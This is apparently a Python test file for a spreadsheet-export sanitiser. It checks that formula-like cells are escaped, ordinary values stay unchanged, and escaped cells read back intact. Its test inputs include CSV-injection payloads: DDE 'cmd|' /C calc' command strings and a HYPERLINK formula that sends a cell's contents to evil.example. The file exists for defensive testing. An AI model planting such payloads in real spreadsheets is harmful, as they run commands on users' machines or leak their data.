"""No cell that we write is executed by a spreadsheet, and each reads back as it was."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench.importing.spreadsheets import defused, whole

FORMULAS = (
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "+43 1 23=A1",
)


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_execute_becomes_text(cell: str) -> None:
    assert defused(cell).startswith("'")


@pytest.mark.parametrize("cell", ["+4312345678", "-5", "-5.25", "-5,25", "12", "Ada", "a-b", "1=1"])
def test_numbers_telephones_and_words_stay_what_they_are(cell: str) -> None:
    assert defused(cell) == cell


@pytest.mark.parametrize("cell", ["a;=cmd()", "a,@x", "a\n=x", 'a"\t+x'])
def test_nor_does_a_formula_hide_behind_another_programs_separator(cell: str) -> None:
    assert not re.search(r"[;,\t\n][=+@-]", defused(cell))


@given(st.text("='+-@;,\t\n12ab ", max_size=15))
def test_what_we_wrote_reads_back_as_it_was(cell: str) -> None:
    assert whole(defused(cell), ours=True) == cell


@pytest.mark.parametrize(
    ("cell", "read"), [("'=1", "=1"), ("'+49 1", "+49 1"), ("'n roll", "'n roll")]
)
def test_of_others_only_the_sign_at_the_beginning_is_taken_off(cell: str, read: str) -> None:
    assert whole(cell, ours=False) == read
    assert whole(f"a,{cell}", ours=False) == f"a,{cell}"
